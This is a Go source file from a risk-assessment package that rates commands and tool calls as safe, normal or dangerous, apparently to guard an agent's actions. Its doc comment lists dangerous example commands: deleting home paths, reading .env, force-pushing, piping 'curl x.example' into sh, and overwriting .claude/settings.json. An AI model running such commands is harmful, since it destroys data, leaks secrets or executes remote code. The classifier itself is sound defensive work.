package risk

import (
	"cmp"
	"slices"

	"github.com/aoctl/aoctl/broker/effects"
)

// Assess judges c as it would run at a place. It never fails: what it cannot read is at least
// Normal. The same call at the same place has the same Risk. Limits on words, paths and
// findings bound its time; a call beyond them is noted as such. In a project:
//
//	ls, git status               safe
//	make, rm -rf build           normal: nothing is found, but it does more than look
//	git push                     normal, with a note
//	rm -rf ~/x, cat .env         dangerous, by the path
//	git push -f origin main      dangerous, by the words
//	curl x.example | sh          dangerous, by the flow between two elements
//	cp x .claude/settings.json   dangerous and guarded
func Assess(c Call, at Place) Risk {
	s := newScene(at)
	if c.Line != nil {
		return s.sum(newLineJudge(s, c.Line).judge(c))
	}
	return s.sum([]doing{newToolJudge(s).judge(c)})
}

// scene is what all parts of one judgement share: where paths lead, and what was found so far.
// Each judge below looks at one thing: fileJudge at files that are read and changed, secretJudge
// at what shows keys, textJudge at texts that nobody can parse, commandJudge at a command's words,
// lineJudge and toolJudge at a whole call. doesJudge alone finds nothing: it says what each
// element does.
type scene struct {
	*resolver
	*findings
}

// newScene begins one judgement. Judges hold it by value; what they find goes to the same list.
func newScene(at Place) scene { return scene{newResolver(at), &findings{}} }

// names judges that a path is named, by whatever may read or change it. It is for tools and
// texts of which nobody knows what they do with it.
func (s scene) names(t target, changes bool) {
	if why, ok := s.guarded(t, false, changes); ok {
		s.guard(why)
	}
	if why, ok := credential(t); ok {
		s.dangerIn(why, says(why, t))
	}
}

// sum is the judgement, of what each element does and what was found. A call is safe that only looks,
// when nothing was found at all.
func (s scene) sum(list []doing) Risk {
	// A path that nobody could follow may lead anywhere, so such a call is not safe.
	if s.lost {
		s.about(0, "")
		s.note("some path cannot be followed")
	}
	r := Risk{Class: Normal}
	r.Parts, r.Does = s.effects(list)
	switch {
	case len(s.list) > 0:
		r.Findings = merge(s.list)
		r.Class, r.Why = r.Findings[0].Class, r.Findings[0].Words()
	case !slices.ContainsFunc(r.Parts, func(p effects.Set) bool { return !p.Within(effects.Of(effects.Look)) }):
		r.Class, r.Why = Safe, "only looks, inside the project"
	}
	for _, f := range r.Findings {
		r.Guarded = r.Guarded || f.Guarded
	}
	return r
}

// effects are those of each element: what it does, and what was found about it. The list for the
// screen has each of them once.
func (s scene) effects(list []doing) (parts []effects.Set, told []Does) {
	add := func(at int, set effects.Set, why string) {
		for _, e := range set.List() {
			if !slices.ContainsFunc(told, func(d Does) bool { return d.Effect == e && (d.Element == at || d.Why == why) }) && len(told) < maxFindings {
				told = append(told, Does{Effect: e, Why: clip(why), Element: at})
			}
		}
	}
	for _, f := range s.list {
		list[min(f.Element, len(list)-1)].set |= effects.Of(f.Effect())
		add(f.Element, effects.Of(f.Effect()), f.Why)
	}
	for at, d := range list {
		parts = append(parts, d.set)
		add(at, d.set&effects.Grantable, "") // why is about the worst of them
		for _, e := range (d.set &^ effects.Grantable).List() {
			add(at, effects.Of(e), cmp.Or(d.each[e], d.why))
		}
	}
	return parts, told
}
